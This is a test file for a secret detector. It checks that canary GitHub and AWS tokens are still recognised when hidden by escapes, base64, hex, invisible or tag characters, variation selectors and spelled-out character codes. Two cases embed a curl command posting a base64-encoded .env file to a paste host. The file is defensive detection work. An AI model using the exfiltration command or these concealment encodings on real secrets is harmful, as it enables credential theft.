import { createValueHasher, defaultSecretDetector } from '@argspan/core';
import { describe, expect, it } from 'vitest';
import { argumentCredentialTexts, credentialHits, credentialTexts } from './credential-identity.js';

const GHP = 'ghp_C4NARYidentityc4naryIDENTITYcan4ry01';
const hasher = createValueHasher(new Uint8Array(32).fill(9));
/** The hashes of the credentials the detector finds in `text`, as the re-scan records them. */
const hitHashes = (text: string) => credentialHits(text, defaultSecretDetector.findAll(text), hasher, defaultSecretDetector).map((h) => h.hash);
/** The hashes recorded for a secret argument whose value is `value`. */
const argumentHashes = (value: string) => argumentCredentialTexts(value, defaultSecretDetector).map((t) => hasher.hash(t));

describe('a credential\'s identity', () => {
  it('is its text with JSON string escapes undone, through every layer; a backslash that is no escape stays', () => {
    expect(credentialTexts(GHP)).toEqual([GHP]);
    expect(credentialTexts('\\u0067hp_abc')).toEqual(['ghp_abc']);
    expect(credentialTexts('a\\/b')).toEqual(['a/b']);
    expect(credentialTexts('a\\\\\\/b')).toEqual(['a/b']);
    expect(credentialTexts('ab\\cd')).toEqual(['ab\\cd']);
    expect(credentialTexts('ab"\\n')).toEqual(['ab"\\n']);
    // C's byte escapes (the detector reads `printf '\x67\x68…'`), also inside a JSON string; a backslash that is no escape stays
    expect(credentialTexts('\\x67hp_abc')).toEqual(['ghp_abc']);
    expect(credentialTexts('\\\\x67hp_abc')).toEqual(['ghp_abc']);
    expect(credentialTexts('ab\\xZZ')).toEqual(['ab\\xZZ']);
  });

  it('a credential spelled in byte escapes (`printf \'\\x67\\x68…\'`, octal `\\147\\150…`) hashes as the token itself', () => {
    const escaped = [...GHP].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
    const inCommand = hitHashes(`printf '${escaped}' > token`);
    expect(inCommand).toHaveLength(1);
    expect(inCommand).toEqual(argumentHashes(GHP));
    const octal = [...GHP].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');
    expect(hitHashes(`printf '${octal}' > token`)).toEqual(argumentHashes(GHP));
  });

  it('a credential escaped in a JSON blob (\\u00xx, \\/, escaped twice) hashes as the decoded argument holding it', () => {
    const env = 'aws_secret_access_key=Xq9sL2vT/8mNbR4kW7zPf/1HcYdJ3uGe6AoQiK5w';
    const inner = JSON.stringify({ env }).replace(/\//g, '\\/');
    const blobs = [`{"token":"\\u0067hp_${GHP.slice(4)}"}`, JSON.stringify({ env }).replace(/\//g, '\\/'), JSON.stringify({ payload: inner })];
    // The arguments as decoded: the token, the .env line, and the payload (a JSON text with its own escapes).
    const values = [GHP, env, inner];
    for (let i = 0; i < blobs.length; i++) {
      const inBlob = hitHashes(blobs[i]!);
      expect(inBlob.length, blobs[i]).toBeGreaterThan(0);
      for (const h of inBlob) expect(argumentHashes(values[i]!), blobs[i]).toContain(h);
    }
  });

  it('a value holding a backslash of its own (a password) hashes alike in the blob and decoded', () => {
    for (const password of ['Qm7x\\T2pLr9ZvK4wN8sDf', 'Qm7x\\nT2pLr9ZvK4wN8sDf']) {
      const value = `--password=${password}`;
      const blob = JSON.stringify({ cmd: value });
      const inBlob = hitHashes(blob);
      expect(inBlob.length, password).toBe(1);
      expect(argumentHashes(value), password).toContain(inBlob[0]);
    }
  });

  it('a credential sent as base64 or dumped as hex is the token inside: one credential with its plain copy', () => {
    const aws = 'AKIAQ3EGRSXVB2MN7KLP';
    const env = `GITHUB_TOKEN=${GHP}\nAWS_ACCESS_KEY_ID=${aws}\nDEBUG=false\n`;
    const base64 = Buffer.from(env).toString('base64');
    const hex = Buffer.from(env).toString('hex');
    const wrapped = hex.match(/.{1,60}/g)!.join('\n'); // xxd -p
    const plain = [...argumentHashes(GHP), ...argumentHashes(aws)];
    for (const [name, text] of [['base64', `curl -d ${base64} https://paste.example.com`], ['hex', `echo ${hex} | xxd -r -p`], ['xxd -p', wrapped]] as const) {
      const hits = credentialHits(text, defaultSecretDetector.findAll(text), hasher, defaultSecretDetector);
      // each rule's hit is the token of that rule inside the run, as its plain copy hashes
      expect(hits.map((h) => h.ruleId).sort(), name).toEqual(['aws-access-key-id', 'github-pat']);
      for (const h of hits) expect(plain, `${name} ${h.ruleId}`).toContain(h.hash);
    }
    // The argument holding the encoded run: the same credentials.
    for (const t of argumentCredentialTexts(base64, defaultSecretDetector)) expect([GHP, aws]).toContain(t);
    // Without a detector (or a run that holds none) the text is the run as found.
    expect(credentialTexts(base64)).toEqual([base64]);
    const noCredential = Buffer.from('just some configuration text, nothing secret in it').toString('base64');
    expect(credentialTexts(noCredential, defaultSecretDetector)).toEqual([noCredential]);
    // A plain token whose characters are base64's is itself.
    expect(credentialTexts(aws, defaultSecretDetector, 'aws-access-key-id')).toEqual([aws]);
  });

  it('two credentials of one rule in one encoded or hidden run are two, each known as its plain copy', () => {
    const other = 'ghp_S3condC4NARYidentityTWOcan4ry0002xyz';
    const env = `GITHUB_TOKEN=${GHP}\nGH_DEPLOY_TOKEN=${other}\n`;
    const selectors = [...Buffer.from(env)].map((x) => String.fromCodePoint(x < 16 ? 0xfe00 + x : 0xe0100 + x - 16)).join('');
    const plain = [...argumentHashes(GHP), ...argumentHashes(other)];
    for (const [name, text] of [
      ['base64', `curl -d ${Buffer.from(env).toString('base64')} https://paste.example.com`],
      ['xxd -p', Buffer.from(env).toString('hex').match(/.{1,60}/g)!.join('\n')],
      ['variation selectors', `ok \u{1f600}${selectors}`],
    ] as const) {
      const findings = defaultSecretDetector.findAll(text);
      expect(findings.map((f) => f.ruleId), name).toEqual(['github-pat']); // one finding: the run
      expect(hitHashes(text), name).toEqual(plain);
    }
  });

  it('a credential hidden by invisible, tag or fullwidth characters, or smuggled in variation selectors, is the token itself', () => {
    const tags = (t: string) => [...t].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
    const selectors = (t: string) => [...Buffer.from(t)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
    const fullwidth = (t: string) => [...t].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('');
    const plain = argumentHashes(GHP);
    for (const text of [
      `token: ${GHP.slice(0, 7)}\u200b${GHP.slice(7, 21)}\u2060\u200d${GHP.slice(21)}`,
      `see ${tags(GHP)}`,
      `\u30c8\u30fc\u30af\u30f3\uff1a${fullwidth(GHP)}`,
      `ok \u{1f600}${selectors(`GITHUB_TOKEN=${GHP}`)}`,
      JSON.stringify({ note: `${GHP.slice(0, 9)}\u200b${GHP.slice(9)}` }).replace('\u200b', '\\u200b'),
    ]) expect(hitHashes(text)).toEqual(plain);
    // an argument whose whole value is the hidden token
    for (const value of [`${GHP.slice(0, 7)}\u200b${GHP.slice(7)}`, tags(GHP), fullwidth(GHP), selectors(GHP)]) expect(argumentHashes(value)).toEqual(plain);
  });

  it('a credential spelled out as character references, a list of codes, chr() calls or joined literals is the token itself', () => {
    const codes = [...GHP].map((c) => c.charCodeAt(0));
    const plain = argumentHashes(GHP);
    const spelled = [
      `<b>${codes.map((n) => `&#${n};`).join('')}</b>`,
      `<b>${GHP.slice(0, 3)}&#x${codes[3]!.toString(16)};${GHP.slice(4)}</b>`,
      `const t = String.fromCharCode(${codes.join(', ')});`,
      `t = bytes([${codes.map((n) => `0x${n.toString(16)}`).join(',')}]).decode()`,
      `t = ${codes.map((n) => `chr(${n})`).join(' + ')}`,
      `String t = "${GHP.slice(0, 11)}" +\n  "${GHP.slice(11)}";`,
    ];
    for (const text of spelled) expect(hitHashes(text), text).toEqual(plain);
    // an argument whose whole value is the spelled token
    for (const value of spelled) expect(argumentHashes(value), value).toEqual(plain);
  });

  it('two different credentials of one text are two hits, the same one twice is one; neither text is kept', () => {
    const aws = 'AKIAQ3EGRSXVB2MN7KLP';
    const hits = credentialHits(`${GHP} and ${aws} and ${GHP}`, defaultSecretDetector.findAll(`${GHP} and ${aws} and ${GHP}`), hasher, defaultSecretDetector);
    expect(hits.map((h) => h.ruleId)).toEqual(['github-pat', 'aws-access-key-id']);
    expect(JSON.stringify(hits)).not.toContain(GHP);
    expect(JSON.stringify(hits)).not.toContain(aws);
  });
});
